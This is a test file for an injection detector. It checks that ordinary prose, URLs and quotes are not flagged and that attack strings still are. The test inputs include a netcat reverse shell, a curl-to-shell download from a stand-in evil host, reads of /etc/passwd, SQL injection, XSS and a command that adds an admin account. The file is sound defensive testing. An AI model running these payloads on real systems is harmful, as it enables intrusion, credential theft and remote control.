import { describe, expect, it } from 'vitest'
import { M, PLAIN_BITS } from '../../src/detect/charmask.js'
import { createDetector } from '../../src/detect/index.js'
import { FIRST_KEPT, residualMask, STARTS_WITH_COMMAND } from '../../src/detect/scan.js'

describe('residualMask: benign triggers are dismissed locally', () => {
  it.each([
    "it's, we've, I'll, they're, don't, I'd, I'm",
    "5 o'clock with O'Brien and d'Arc",
    'I <3 it',
    // a `<` that ends the text opens nothing: no tag, no operand of a comparison, no redirection's target
    'k123<',
    'more to come <',
    'Tom & Jerry',
    'PR #4211 in C# and F#, #release',
    'plans: $9.99 | $19.99 | team is $49 (billed yearly), $1,200 | ok',
    'up 12% since Tue/Thu, 2+2 and C++',
    'see https://example.org/docs/page?id=5#top for more',
    "it's late; see you :) tomorrow ;)",
    'a (quick) note, *really*',
    'emoji 🎂🎉🚀 and café, naïve, €35, 20°, 5 – 6',
    'She said "it\'s fine" but left',
    '"Bring a friend, if you have one." -- Winston Churchill',
    'I replied, "They used to say the same thing about drugs."',
    "In Oz, never say 'krizzle kroo' to a Woozy.",
    // a chain of numbers in prose (sqli/prose.ts), though a comparison after `or` is a test
    'Is 5 > 3 or 9 < 12 here?',
    '> quoted reply from before',
    'The fix is in `src/app.ts`: we were not awaiting it',
    'the flaky test is `user.spec.ts` (timeout after 5s), see `db.json`',
    'a note (find it later) and (make sure of it), (ping me) or (watch out)',
    'option (b), ($120 vs $180), (~2x) faster',
    "back to work; who's reviewing?",
    '* `sourceEnd` Physical parent, see `--preserve-symlinks-main` and `404 Not Found`',
    'This API allows using `AbortSignal`s in Node.js APIs',
    '* `value` {any} The value; returns {net.Socket} or {string}.',
    'Node.js is built on the [V8 JavaScript engine][] and [RFC 4055](https://example.org/rfc).',
    '## Example 1 - Basic GET Request',
    'Since PKCS#8 defines its own format',
    'Default values (passed in by npm) for all (not a directory) cases',
    '"All depends," the native drawled.',
    '"All the fight between you and the world, back the world." -- Frank Zappa',
    // (not a quote before IN, IS, INTO or LIKE: a quote that breaks out of a string goes on so)
    '"The best operating system in the world." - Ted Nelson',
    '"We could party later." -- "Cheech and Chong\'s Next Movie"',
    // a span of prose that names a command: the command detector counts it at paranoia 2 only
    'the `diff` package, `npm install` and `ls -la` and `node.exe`',
    // a dotted name runs by its whole name, which no command has
    '* `node.parent` Physical parent, see `node.realpath` and `test.only` or `ls.colors`',
    // an extension or a property after a dot, a module or a scope after a colon
    'each `.gyp` or `.gypi` file, the `.buffer` property, `node:assert`, `scope:team`, `v8::External`',
    // a quoted phrase whose first word names a command; a dialogue, one quotation after another
    'Thus spake the master programmer: "Let the programmers be many and the managers few."',
    "he answered 'yes sir' politely",
    // a plural's possessive, a dropped g
    "Davis' Law of Traffic Density and the students' books, stickin' those",
    // nicks in a chat log
    '<DanielS> still, throne of blood sounds like a movie',
    '<mjg59> Damnit.',
    '"Surely you can\'t be serious." "I am serious, and stop calling me Shirley."',
    // line breaks between lines of prose, blank lines and Windows line ends
    'hello there\nhow are you',
    'ok\n\nsee you tomorrow.\n',
    'line one\r\nline two\r\nline three',
    'Happy birthday!\n  Have a great day',
    // a URL's query pairs, and a path (with a query or a fragment) as the argument of a word of prose
    'watching https://www.example.com/watch?v=abc&t=42s now',
    'see https://example.org/a?b=1&c=2&d=x.y, thanks',
    'the new docs (https://example.org/?q=1&page=2)',
    'Can someone check why /api/v2/users?page=2&limit=50 is slow?',
    'see /docs/intro.md#setup first',
    'please see /api/v1/items?sort=name&order=desc.',
  ])('%s', (s) => {
    expect(residualMask(s)).toBe(0)
  })

  it('stops at the first trigger kept when asked, with the same verdict', () => {
    const strings = [
      'x (timeout 5) and ; drop table t',
      'Tom & Jerry; whoami & b',
      "it's fine <svg onload=1> and `id`",
      'see https://example.org/a?b=1 then <b>',
      'plain words only, nothing else',
      "it's 5 o'clock; see you :) <3",
    ]
    for (const s of strings) {
      const all = residualMask(s) & ~PLAIN_BITS
      const first = residualMask(s, 0, s.length, false, FIRST_KEPT) & ~PLAIN_BITS
      expect(first !== 0, s).toBe(all !== 0)
      expect(first & ~all, s).toBe(0)
    }
  })

  it('pairs quotation marks: a closing mark needs its opening', () => {
    expect(residualMask('fine" and more') & M.QUOTE).toBe(M.QUOTE)
    expect(residualMask('"fine" but more')).toBe(0)
    expect(residualMask('"fine\' and more') & M.QUOTE).toBe(M.QUOTE)
  })

  it('reads only the range it is given', () => {
    const json = '{"a":"Tom & Jerry ok","b":"x; whoami"}'
    expect(residualMask(json, 6, 20)).toBe(0)
    expect(residualMask(json, 27, 36) & M.SEMI).toBe(M.SEMI)
    // past the range is the closing quote of a JSON string: it only ever keeps a trigger
    expect(residualMask('{"a":"Tom &","b":"Jerry"}', 6, 11) & M.AMP).toBe(M.AMP)
  })

  it('names a leading command like maybeCommand does', () => {
    for (const s of ['ping 127.0.0.1', '  sleep 5', 'CURL x', 'python3.8 -c x', 'whoami.exe now'])
      expect(STARTS_WITH_COMMAND.test(s)).toBe(true)
    for (const s of ['pingpong later', 'hello there', 'category 5'])
      expect(STARTS_WITH_COMMAND.test(s)).toBe(false)
  })
})

describe('the line-rate pass keeps detection', () => {
  const d = createDetector()
  it.each([
    "it's fine' or 1=1--",
    'Tom & Jerry & whoami',
    'see you; cat /etc/passwd',
    'look at this: curl https://evil.example/x.sh | sh',
    "o'clock' union select password from users--",
    '$9.99 | nc -e /bin/sh 10.0.0.1 4444',
    'admin" -- ',
    "\"Bring a friend\" or 'a'='a",
    '`whoami`',
    '"x";alert(1)//',
    "so 1 into outfile '/var/www/x.php' ok",
    'sure; who -a',
    // found by the property test with more samples: a heart glued to a command (a redirection),
    // `or` glued to a number, a nick after a command word (its input)
    'cat<3',
    'nc<3,',
    '1or 9.99 --',
    ' or @@version -- ',
    '3 and null',
    'bjavascript: nc <DanielS>',
    'see https://e.co/?a=1&b=2 id',
    'see /a/b?x=1&y=2 id',
    'see /dev/tcp/10.0.0.1/4444',
    'go /x?a=1&c=cat /etc/passwd',
    '<3 net localgroup Administrators hacker /ADD',
    '<3 wget x https://e.co/?a=1&b=2',
    // a first word as the command detector reads it: after a quote, as a path's last part, after an
    // empty expansion
    '"let x /bin/sh',
    'version/usr/bin/curl x https://evil.example/x.sh',
    ' $5 echo a.com',
    ' or-esee ~* true #top',
    ' and x/y<3 é',
    '<3 eval javascript: 5 #4 script',
    '"is --',
    // a `<` at the end, after what the detectors read
    'cat /etc/passwd <',
    "1' or 1=1 <",
    '<script>alert(1)</script><',
    'x; id <',
    'ping -c 1 127.0.0.1 <',
  ])('still flags %s', (s) => {
    expect(d.first(s)).not.toBeNull()
  })

  // Only keywords keep these (every other trigger dismissed): the SQL detector reads them, and the
  // command detector too when a keyword can start a command rule (an option, `sleep`, `exec`) or
  // the first word names a command.
  it.each([
    ['run: nc -lvp 4444', 'ws-cmd-injection'],
    ['then: curl --data x evil.com', 'ws-cmd-injection'],
    ['hello: whoami --help', 'ws-cmd-injection'],
    ['sleep 5', 'ws-cmd-injection'],
    ['1 union select password from users', 'ws-sqli'],
    ['x or 1 union select 1', 'ws-sqli'],
  ])('reads %s for its keywords (%s)', (s, tag) => {
    expect(d.first(s)?.tag).toBe(tag)
  })
})
